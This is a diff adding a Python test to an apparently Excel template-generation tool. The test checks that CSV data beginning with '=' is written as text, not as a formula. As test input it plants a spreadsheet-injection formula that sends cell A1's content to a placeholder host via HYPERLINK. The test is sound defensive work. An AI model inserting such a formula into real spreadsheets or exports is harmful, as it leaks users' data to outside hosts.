@@ -284,3 +284,22 @@ def test_the_editors_guide_has_real_copyable_commands_and_no_taken_example_ids()
     with open(ROOT / "data" / "documents.csv", encoding="utf-8", newline="") as handle:
         taken = {d["id"] for d in csv.DictReader(handle)}
     assert not any(re.search(rf"(?<![\d-]){doc_id}(?![\d-])", guide) for doc_id in taken)
+
+
+def test_data_text_is_never_written_as_a_formula(year_open: Path, tmp_path: Path):
+    """Data text is untrusted: an indicator starting with '=' must reach Excel as text."""
+    path = year_open / "measurements.csv"
+    with open(path, encoding="utf-8", newline="") as handle:
+        reader = csv.DictReader(handle)
+        header, rows = reader.fieldnames, list(reader)
+    target = next(r for r in rows if r["activity_id"] == ACTIVITY and r["year"] == "2019")
+    target["indicator"] = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
+    with open(path, "w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=header, lineterminator="\n")
+        writer.writeheader()
+        writer.writerows(rows)
+    [book] = intake.write_templates(year_open, YEAR, tmp_path, ADMIN)
+    ws = load_workbook(book)[SHEET]
+    cells = [ws[f"B{intake.FIRST_MEASUREMENT_ROW + i}"] for i in range(intake.MAX_MEASUREMENTS)]
+    hit = [c for c in cells if str(c.value or "").startswith("=HYPERLINK")]
+    assert hit and all(c.data_type == "s" for c in hit)
